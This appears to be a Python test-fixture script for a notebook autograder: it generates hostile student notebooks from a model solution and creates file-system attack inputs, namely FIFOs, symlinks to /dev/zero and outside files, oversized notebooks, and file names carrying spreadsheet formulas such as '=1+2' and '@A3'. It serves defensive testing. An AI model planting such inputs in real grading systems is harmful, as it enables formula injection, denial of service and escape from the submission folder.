         why="Control: the model solution again, graded after every hostile notebook; it must "
             "still get 12/12.", ops=[]),
]


def _fill(source: str, port: int, checkout: str) -> str:
    if source == "WRITE_OUTSIDE":
        source = WRITE_OUTSIDE.replace("TARGETS", repr(list(WRITE_TARGETS)), 1)
    return (source.replace("PORT", str(port)).replace("SECRET_NAME", SECRET_ENV)
            .replace(CHECKOUT, checkout))


def write_targets(checkout: str, purelib: str, base: str) -> list[Path]:
    """WRITE_TARGETS as the notebooks generated for `checkout` name them."""
    return [Path(t.replace(CHECKOUT, checkout).format(purelib=purelib, base=base))
            for t in WRITE_TARGETS]


def _slot_cells(nb) -> dict:
    """Slot -> the model's cell object (found once, before anything is inserted)."""
    out = {}
    for slot, needle in SLOTS.items():
        hits = [c for c in nb.cells if c.cell_type == "code" and needle in c.source]
        if len(hits) != 1:
            raise ValueError(f"slot {slot!r} ({needle!r}) matches {len(hits)} code cells")
        out[slot] = hits[0]
    return out


def build(entry: dict, model, port: int = LISTEN_PORT,
          checkout: str = CHECKOUT) -> nbformat.NotebookNode:
    nb = copy.deepcopy(model)
    slots = _slot_cells(nb)
    for op in entry["ops"]:
        kind = op[0]
        if kind == "append":
            nb.cells.append(new_code_cell(_fill(op[1], port, checkout)))
        elif kind == "answer":
            tag, text = op[1], op[2]
            cells = [c for c in nb.cells if tag in c.get("metadata", {}).get("tags", [])]
            if len(cells) != 1:
                raise ValueError(f"answer cell {tag} not found once")
            cells[0].source = text
        else:
            target = slots[op[1]]
            i = next(k for k, c in enumerate(nb.cells) if c is target)
            cell = new_code_cell(_fill(op[2], port, checkout))
            if kind == "before":
                nb.cells.insert(i, cell)
            elif kind == "after":
                nb.cells.insert(i + 1, cell)
            elif kind == "replace":
                nb.cells[i] = cell
                slots[op[1]] = cell
            else:
                raise ValueError(f"unknown op {kind!r}")
    unknown = set(entry["fail"]) - set(QUESTIONS)
    if unknown:
        raise ValueError(f"{entry['name']}: unknown questions {unknown}")
    nb.metadata["grader"] = {"pack": "conv-layer"}
    nb.metadata["grader_test"] = {
        "expected": {q: "fail" if q in entry["fail"] else "pass" for q in QUESTIONS},
        "why": entry["why"],
    }
    for i, cell in enumerate(nb.cells):
        cell["id"] = f"cell-{i:02d}"                  # deterministic, so regenerating is stable
        if cell.cell_type == "code":
            cell.outputs, cell.execution_count = [], None
    nbformat.validate(nb)
    return nb


def model_notebook() -> nbformat.NotebookNode:
    """The model solution every notebook starts from, without the course import (1.5 s a
    kernel, and nothing to defend)."""
    model = nbformat.read(MODEL, as_version=4)
    for cell in model.cells:
        cell.source = "\n".join(line for line in cell.source.splitlines()
                                 if line.strip() != "from d2l import torch as d2l")
    return model


def notebooks(port: int = LISTEN_PORT,
              checkout: str = CHECKOUT) -> dict[str, nbformat.NotebookNode]:
    model = model_notebook()
    names = [e["name"] for e in SUBMISSIONS]
    if len(set(names)) != len(names):
        raise ValueError("duplicate notebook names")
    return {e["name"]: build(e, model, port, checkout) for e in SUBMISSIONS}


def render(nb: nbformat.NotebookNode) -> str:
    return nbformat.writes(nb, version=4)


def main(folder: Path = HERE, port: int = LISTEN_PORT, checkout: str = CHECKOUT) -> None:
    built = notebooks(port, checkout)
    for old in folder.glob("*.ipynb"):
        if old.stem not in built:
            old.unlink()
    for name, nb in built.items():
        (folder / f"{name}.ipynb").write_text(render(nb), encoding="utf-8")
    print(f"wrote {len(built)} notebooks to {folder}")


# --- attacks through the file system, made by the test (they cannot be committed) -------------

REFUSED = "refused"
SPECIAL_NAMES = ("x01_fifo", "x02_dev_zero", "x03_link_to_model", "x04_link_to_classmate",
                 "x05_folder.ipynb", "x06_broken_link", "x07_400k_cells", "x08_huge_file",
                 "gradebook.sqlite", "index.html", "grades.csv", "submissions", "a b", "a%20b",
                 "+A3+A4", "@A3", "=1+2", "-1+1", "\tTAB")


def make_specials(folder: Path) -> dict[str, dict]:
    """Files next to the notebooks that attack the batch itself: special files, links out of
    the folder, names the run uses, spreadsheet formulas, huge notebooks. Returns, per
    submission name, {"refused": words the refusal must contain} or {"expected": verdicts}."""
    model = render(model_notebook())
    passes = {"expected": {q: "pass" for q in QUESTIONS}}
    out: dict[str, dict] = {}
    os.mkfifo(folder / "x01_fifo.ipynb")
    out["x01_fifo"] = {REFUSED: "FIFO"}
    (folder / "x02_dev_zero.ipynb").symlink_to("/dev/zero")
    out["x02_dev_zero"] = {REFUSED: "outside"}
    (folder / "x03_link_to_model.ipynb").symlink_to(MODEL)
    out["x03_link_to_model"] = {REFUSED: "outside"}
    (folder / "x04_link_to_classmate.ipynb").symlink_to("h00_control_model_solution.ipynb")
    out["x04_link_to_classmate"] = {**passes, "twin": "h00_control_model_solution"}
    (folder / "x05_folder.ipynb").mkdir()
    out["x05_folder.ipynb"] = {REFUSED: "holds no notebook"}
    (folder / "x06_broken_link.ipynb").symlink_to(folder / "nowhere.ipynb")
    out["x06_broken_link"] = {REFUSED: "broken link"}
    for name in ("gradebook.sqlite", "index.html", "grades.csv", "submissions", "a b", "a%20b",
                 "+A3+A4", "@A3", "=1+2", "-1+1", "\tTAB"):
        (folder / f"{name}.ipynb").write_text(model, encoding="utf-8")
        out[name] = passes
    many = {"cells": [{"cell_type": "code", "source": "", "metadata": {}, "outputs": [],
                       "execution_count": None}] * 400_000,
            "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    (folder / "x07_400k_cells.ipynb").write_text(json.dumps(many), encoding="utf-8")
    out["x07_400k_cells"] = {REFUSED: "cells"}
    with open(folder / "x08_huge_file.ipynb", "wb") as fh:
        fh.truncate(60 * 2**20)
    out["x08_huge_file"] = {REFUSED: "MiB"}
    assert sorted(out) == sorted(SPECIAL_NAMES)
    return out


if __name__ == "__main__":
    main()
